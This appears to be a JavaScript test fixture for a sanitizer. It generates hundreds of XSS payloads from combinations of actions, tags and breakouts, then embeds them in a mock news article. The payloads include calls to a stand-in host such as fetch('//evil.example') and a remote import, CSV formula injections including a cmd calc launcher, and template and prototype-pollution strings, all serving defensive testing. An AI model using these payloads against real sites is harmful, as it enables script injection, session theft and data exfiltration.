/**
 * Texts that want to be more than text: every payload below, in every place where a text could slip
 * into markup, script, style or an address. Some are old acquaintances of every HTML tokenizer, most
 * are made by combining.
 */

const ACTS = [
  "alert(1)",
  "window.owned=1",
  "fetch('//evil.example')",
  "import('//evil.example/x.js')",
];

const TAGS = [
  (/** @type {string} */ act) => `<script>${act}</script>`,
  (/** @type {string} */ act) => `<img src=x onerror=${act}>`,
  (/** @type {string} */ act) => `<svg onload=${act}>`,
  (/** @type {string} */ act) => `<iframe srcdoc="<script>${act}</script>">`,
  (/** @type {string} */ act) => `<a href="javascript:${act}">click</a>`,
  (/** @type {string} */ act) => `<body onpageshow=${act}>`,
  (/** @type {string} */ act) => `<input autofocus onfocus=${act}>`,
  (/** @type {string} */ act) => `<details open ontoggle=${act}>`,
  (/** @type {string} */ act) => `<video><source onerror=${act}></video>`,
  (/** @type {string} */ act) => `<math><mtext><img src=x onerror=${act}></mtext></math>`,
];

const BREAKOUTS = [
  (/** @type {string} */ tag) => tag,
  (/** @type {string} */ tag) => `">${tag}`,
  (/** @type {string} */ tag) => `'>${tag}`,
  (/** @type {string} */ tag) => `</title></style></textarea></script>${tag}`,
  (/** @type {string} */ tag) => `--> ${tag} <!--`,
  (/** @type {string} */ tag) => `]]>${tag}<![CDATA[`,
];

const OTHERS = [
  "<style>*{background:url(//evil.example/x.png)}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>",
  "<object data=//evil.example/x.swf></object>",
  "<embed src=//evil.example/x.swf>",
  "<form action=//evil.example><input name=a></form>",
  "<template><img src=//evil.example/x.png></template>",
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "[click](javascript:alert(1))",
  "![x](//evil.example/x.png)",
  '=HYPERLINK("//evil.example","click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "\u202E>tpircs/<)1(trela>tpircs<",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#x3C;img src=x onerror=alert(1)&#x3E;",
  "\u0000<script>\u0000alert(1)</script>",
  "${alert(1)} {{constructor.constructor('alert(1)')()}} #{alert(1)}",
  "__proto__ constructor toString",
];

/** More than two hundred. */
export const PAYLOADS = [
  ...ACTS.flatMap((act) => TAGS.flatMap((tag) => BREAKOUTS.map((out) => out(tag(act))))),
  ...OTHERS,
];

/**
 * A paste that brings some payloads in as headline, name, title, quotation, date, caption and furniture.
 *
 * @param {readonly string[]} payloads
 */
export function hostilePaste(payloads) {
  const lines = payloads.map(
    (payload, at) =>
      `Minister Anna ${payload} Bergström said “${payload} is what we have” on Monday ${payload}, ` +
      `according to ${payload} Holdings of ${payload} City, ${at + 1} March 2021.`,
  );
  return [
    `How ${payloads[0]} shakes the harbour of Skarvoy`,
    `By ${payloads[1] ?? payloads[0]}`,
    "SKARVOY, 14 March 2021 (Meridian) - The harbour master resigned on Monday.",
    ...lines,
    `Share this ${payloads[0]}`,
    `Sign up to our newsletter ${payloads[0]}`,
  ].join("\n\n");
}
